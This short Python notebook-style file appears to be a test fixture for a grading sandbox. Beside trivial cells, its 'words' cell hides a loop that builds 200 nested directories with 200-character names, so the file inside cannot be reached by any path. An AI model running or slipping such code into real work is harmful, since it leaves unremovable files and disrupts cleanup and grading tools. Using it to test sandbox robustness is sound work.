"""Hides files so deep that no path reaches them."""
# marks: 3 2 2 0

# %% number
number = 42

# %% mean
mean = posts['likes'].mean()

# %% double
def double(x):
    return 2 * x

# %% words
import os

for _ in range(200):
    os.mkdir('d' * 200)
    os.chdir('d' * 200)
    open('file', 'w').write('x')
import time

time.sleep(1)
words = ['a', 'b']
